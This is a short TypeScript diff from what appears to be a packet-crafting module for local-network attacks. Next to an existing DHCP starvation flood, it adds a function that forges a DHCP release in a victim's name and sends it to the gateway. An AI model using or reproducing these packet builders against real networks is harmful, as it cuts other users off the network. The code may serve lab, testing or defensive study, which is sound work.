@@ -220,3 +220,12 @@ export function leaseFlood({ attacker }: Parties, count: number): readonly Buffe
     return ethernet(BROADCAST, attacker.mac, IPV4, udp('0.0.0.0', '255.255.255.255', [68, 67], discover));
   });
 }
+
+/** Gives back the victim's address in its name, with the guest's own MAC and address around it. */
+export function forgedRelease({ attacker, gateway, victim }: Parties): Buffer {
+  const release = dhcp('request', victim, [
+    [53, 7],
+    [54, ...ip(gateway.address)],
+  ]);
+  return ethernet(gateway.mac, attacker.mac, IPV4, udp(attacker.address, gateway.address, [68, 67], release));
+}
